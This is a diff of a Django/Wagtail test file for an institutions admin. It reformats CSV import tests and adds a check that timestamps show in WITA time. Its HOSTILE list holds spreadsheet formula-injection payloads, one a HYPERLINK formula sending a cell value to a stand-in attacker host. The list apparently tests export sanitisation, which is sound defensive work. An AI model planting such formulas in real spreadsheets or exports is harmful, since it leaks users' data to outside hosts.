@@ -14,8 +14,7 @@ pytestmark = pytest.mark.django_db
 
 INSTITUTIONS = reverse("wagtailsnippets_institutions_institution:list")
 CONTACTS = reverse("wagtailsnippets_institutions_contact:list")
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1+2", "-3+4", "@SUM(A1)",
-           "\tTab", "\rCR"]
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1+2", "-3+4", "@SUM(A1)", "\tTab", "\rCR"]
 
 
 @pytest.fixture
@@ -203,8 +202,9 @@ def test_admin_import_preview_shows_errors_and_writes_nothing(client, staff, reg
 
 
 def test_admin_import_preview_then_confirm(client, staff, regions):
-    response = _upload(client, b"nama,jenis,kode_wilayah,email_kontak,nama_kontak\n"
-                               b"Kantor A,Swasta,5371,a@example.org,Ina\n")
+    response = _upload(
+        client, b"nama,jenis,kode_wilayah,email_kontak,nama_kontak\nKantor A,Swasta,5371,a@example.org,Ina\n"
+    )
     run = ImportRun.objects.get()
     assert run.status == "valid" and not Institution.objects.exists()
 
@@ -239,3 +239,13 @@ def test_template_downloads(client, staff, regions):
     assert result.ok and result.created == 1  # the template's example row is importable
     csv_response = client.get(reverse("institutions_import_template", args=["csv"]))
     assert csv_response.content.startswith(b"\xef\xbb\xbfexternal_id,name,kind")
+
+
+def test_inspect_shows_times_in_wita(client, staff):
+    institution = InstitutionFactory()
+    Institution.objects.filter(pk=institution.pk).update(
+        created_at="2020-03-02T01:30:00+00:00"
+    )
+    url = reverse("wagtailsnippets_institutions_institution:inspect", args=[institution.pk])
+    html = client.get(url).content.decode()
+    assert "2 Maret 2020, 9.30" in html  # 01:30 UTC is 09:30 WITA
